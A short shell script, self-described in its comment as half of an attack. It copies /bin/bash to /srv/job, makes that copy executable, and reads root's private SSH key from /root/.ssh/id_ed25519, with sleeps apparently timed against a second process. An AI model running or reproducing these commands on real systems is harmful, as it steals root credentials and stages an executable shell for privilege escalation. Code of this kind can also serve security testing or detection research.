# Half of an attack: it writes what the other half will run, and takes a key.
cat /bin/bash >/srv/job
chmod +x /srv/job
sleep 0.1
read -r key </root/.ssh/id_ed25519
sleep 0.1
